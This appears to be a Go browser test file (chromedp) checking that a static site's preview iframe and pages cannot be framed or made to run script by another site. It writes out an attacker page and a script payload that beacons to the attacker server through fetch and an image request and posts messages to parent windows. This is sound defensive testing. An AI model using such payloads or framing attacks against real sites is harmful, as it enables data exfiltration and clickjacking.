package e2e

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// attackerSite serves html at / on another site than the static site's (localhost, where the
// site is on 127.0.0.1) and records the requests for /beacon a script that ran would send.
type attackerSite struct {
	url  string
	mu   sync.Mutex
	hits []string
}

func newAttackerSite(t *testing.T, html func(self string) string) *attackerSite {
	t.Helper()
	a := &attackerSite{}
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/beacon") {
			a.mu.Lock()
			a.hits = append(a.hits, r.URL.RequestURI())
			a.mu.Unlock()
			w.Header().Set("Access-Control-Allow-Origin", "*")
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, html(a.url))
	}))
	t.Cleanup(ts.Close)
	a.url = strings.Replace(ts.URL, "127.0.0.1", "localhost", 1)
	return a
}

// beacons returns what the attacker's server was sent.
func (a *attackerSite) beacons() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.hits...)
}

// previewPayload is the HTML an attacker posts to the preview: if it ever runs, it says so to
// every window it can reach and to the attacker's server.
func previewPayload(attacker string) string {
	return `<script>
var ran = "ran:" + self.origin;
try { parent.postMessage(ran, "*"); top.postMessage(ran, "*"); } catch (e) {}
try { fetch("` + attacker + `/beacon?fetch=" + encodeURIComponent(self.origin)); } catch (e) {}
try { new Image().src = "` + attacker + `/beacon?img"; } catch (e) {}
try { caches.keys().then(function (k) { parent.postMessage("ran:caches:" + k, "*"); }); } catch (e) {}
</script>`
}

// TestAnotherSiteCannotRunScriptInTheStaticPreview: a page of another site frames the static
// site's /preview/ (as it is, and sandboxed with allow-scripts) and posts it HTML with a
// script, again and again: nothing runs, the preview does not even say it is ready to it, and
// nothing reaches the attacker's server. The control: the site's own page, framing the preview
// the way the app does, gets the same HTML run in an opaque origin.
func TestAnotherSiteCannotRunScriptInTheStaticPreview(t *testing.T) {
	t.Parallel()
	site := serveFiles(t, sharedStatic(t, "/"), "/")
	var attacker *attackerSite
	attacker = newAttackerSite(t, func(self string) string {
		return `<!doctype html><html><body><script>
window.__got = [];
window.addEventListener("message", function (e) { window.__got.push(String(typeof e.data === "string" ? e.data : JSON.stringify(e.data))); });
var html = ` + jsString(previewPayload(self)) + `;
function attack(sandbox) {
  var f = document.createElement("iframe");
  if (sandbox) f.setAttribute("sandbox", sandbox);
  f.src = ` + jsString(site+"preview/") + `;
  f.onload = function () {
    for (var i = 0; i < 20; i++) setTimeout(function () {
      f.contentWindow.postMessage({loupePreview: "render", html: html}, "*");
    }, i * 50);
  };
  document.body.appendChild(f);
}
attack(""); attack("allow-scripts"); attack("allow-scripts allow-same-origin");
</script></body></html>`
	})
	ctx := newBrowser(t)
	if err := chromedp.Do(within(t, ctx, 30*time.Second), chromedp.Navigate(attacker.url+"/")); err != nil {
		t.Fatal(err)
	}
	time.Sleep(2500 * time.Millisecond) // every post sent, anything that would run has run
	got, err := chromedp.Run(within(t, ctx, 10*time.Second), chromedp.Evaluate[[]string](`window.__got`))
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range got {
		t.Errorf("the attacker's page got a message from the preview: %s", m)
	}
	for _, b := range attacker.beacons() {
		t.Errorf("the attacker's server got %s", b)
	}

	// The control: the site's own page frames the preview as the app does.
	if err := chromedp.Do(within(t, ctx, 30*time.Second), chromedp.Navigate(site)); err != nil {
		t.Fatal(err)
	}
	ran, err := chromedp.Run(within(t, ctx, 20*time.Second), chromedp.Evaluate[string](`new Promise(function (resolve) {
  var f = document.createElement("iframe");
  f.setAttribute("sandbox", "allow-scripts");
  window.addEventListener("message", function (e) {
    if (e.source !== f.contentWindow) return;
    if (e.data && e.data.loupePreview === "ready") f.contentWindow.postMessage({loupePreview: "render", html: `+jsString(previewPayload(attacker.url))+`}, "*");
    else if (typeof e.data === "string" && e.data.indexOf("ran:") === 0) resolve(e.data);
  });
  f.src = `+jsString(site+"preview/")+`;
  document.body.appendChild(f);
  setTimeout(function () { resolve("nothing ran"); }, 10000);
})`, chromedp.EvalAwaitPromise))
	if err != nil || ran != "ran:null" {
		t.Errorf("the site's own sandboxed frame: got %q (%v); want the HTML run in an opaque origin (ran:null)", ran, err)
	}
}

// TestAnotherSiteCannotFrameTheStaticPages: a static page framed by a page of another site,
// as it is or in a sandbox that lets it run scripts with its own origin, stays hidden and stops
// before its app starts; the top window stays the attacker's (browsers let a frame take it only
// after a click in it).
func TestAnotherSiteCannotFrameTheStaticPages(t *testing.T) {
	t.Parallel()
	site := serveFiles(t, sharedStatic(t, "/"), "/")
	target := site + "entities/entities.search"
	for _, tc := range []struct {
		name, sandbox string
	}{
		{"framed as it is", ""},
		{"framed in a sandbox without top navigation", "allow-scripts allow-same-origin allow-forms"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			attacker := newAttackerSite(t, func(string) string {
				return `<!doctype html><html><body><h1 id="attacker">attacker</h1><iframe id="victim" width="800" height="600" ` +
					map[bool]string{true: `sandbox="` + tc.sandbox + `" `, false: ""}[tc.sandbox != ""] + `src="` + target + `"></iframe></body></html>`
			})
			ctx := newBrowser(t)
			if err := chromedp.Do(within(t, ctx, 30*time.Second), chromedp.Navigate(attacker.url+"/")); err != nil {
				t.Fatal(err)
			}
			time.Sleep(5 * time.Second) // long enough for the app to have started in the frame
			loc, err := chromedp.Run(within(t, ctx, 10*time.Second), chromedp.Location())
			if err != nil {
				t.Fatal(err)
			}
			if loc != attacker.url+"/" {
				return // the guard took the top window: the page is not framed
			}
			state := frameEval(t, ctx, target, `[getComputedStyle(document.documentElement).display, typeof Go, !!document.getElementById("side")].join(" ")`)
			if state != "none undefined false" {
				t.Errorf("the framed page: display, the Go runtime, the page's body = %q; want \"none undefined false\" (hidden, stopped before the app)", state)
			}
		})
	}
}

// frameEval evaluates expr in the frame showing url (another site's frame runs in a process of
// its own: a target of its own) and returns the result.
func frameEval(t *testing.T, ctx context.Context, url, expr string) string {
	t.Helper()
	targets, err := chromedp.Targets(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, ti := range targets {
		if ti.Type != "iframe" || strings.TrimSuffix(ti.URL, "/") != strings.TrimSuffix(url, "/") {
			continue
		}
		fctx, cancel := chromedp.NewContext(ctx, chromedp.WithTargetID(ti.TargetID))
		defer cancel()
		out, err := chromedp.Run(within(t, fctx, 10*time.Second), chromedp.Evaluate[string](expr))
		if err != nil {
			t.Fatalf("evaluating in the frame: %v", err)
		}
		return out
	}
	var seen []string
	for _, ti := range targets {
		seen = append(seen, ti.Type+" "+ti.URL)
	}
	t.Fatalf("no frame shows %s; targets: %v", url, seen)
	return ""
}
